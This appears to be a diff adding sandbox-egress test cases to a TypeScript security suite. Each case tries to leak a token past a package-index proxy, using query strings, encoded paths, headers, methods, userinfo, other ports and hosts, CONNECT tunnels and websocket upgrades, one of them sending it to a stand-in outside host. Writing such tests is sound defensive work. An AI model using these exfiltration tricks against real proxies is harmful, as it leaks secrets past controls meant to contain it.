@@ -4,7 +4,7 @@
  */
 import * as fs from 'node:fs';
 import { join } from 'node:path';
-import { type Attempt, type Proof, printsSecret, printsThrough } from '../row.ts';
+import { type Attempt, isReceived, type Proof, printsSecret, printsThrough } from '../row.ts';
 import { filesystemRows } from './filesystem.ts';
 import { namespaceRows } from './namespaces.ts';
 import { networkRows } from './network.ts';
@@ -93,3 +93,54 @@ export const sessionPrivilegeRows: readonly Attempt[] = [
     }),
   ),
 ];
+
+const index = 'http://npm.index.skillgate.internal';
+
+// The bare twin sends the same bytes to a proxy without rules.
+const asks: readonly (readonly [name: string, code: string])[] = [
+  ['send data in a query to', `get('${index}/lib?d=' + token)`],
+  ['send data in a path below a package to', `get('${index}/lib/' + token)`],
+  ['send data in a path with dots to', `get('${index}/lib/%2e%2e/-/' + token)`],
+  ['search by words at', `get('${index}/-/v1/search?text=' + token)`],
+  ['send data in the body of a question to', `get('${index}/lib', body=token)`],
+  ['publish a package at', `get('${index}/lib', method='PUT', body=token)`],
+  [
+    'send data in a method to',
+    `get('${index}/lib', method='GET' + token.upper())
+get('${index}/lib', method=token)`,
+  ],
+  [
+    'send data in a header to',
+    `get('${index}/lib', headers='X-Data: %s\\nCookie: %s\\n' % (token, token))`,
+  ],
+  [
+    'send data as user of',
+    `get('http://%s@npm.index.skillgate.internal/lib' % token, 'npm.index.skillgate.internal')`,
+  ],
+  ['reach another port beside', `get('${index}:22/' + token)`],
+  [
+    'reach another host by the name of',
+    `get('http://elsewhere.example/' + token, 'npm.index.skillgate.internal')`,
+  ],
+  [
+    'reach an index that nobody granted, beside',
+    `get('http://python.index.skillgate.internal/simple/%s/' % token)`,
+  ],
+  [
+    'open a tunnel to',
+    `send('CONNECT npm.index.skillgate.internal:80 HTTP/1.1\\nHost: npm.index.skillgate.internal:80\\n\\n', 'GET /-/%s HTTP/1.1\\nHost: npm.index.skillgate.internal\\n\\n' % token)`,
+  ],
+  [
+    'switch to another protocol at',
+    `get('${index}/lib', headers='Connection: Upgrade\\nUpgrade: websocket\\nSec-WebSocket-Key: %s\\n' % token)`,
+  ],
+];
+
+/** Ways out by the package index of a session. */
+export const sessionIndexRows: readonly Attempt[] = asks.map(([act, code]) => ({
+  name: `${act} the index of a session`,
+  wants: 'a way out by the index',
+  in: 'session',
+  proof: isReceived,
+  code,
+}));
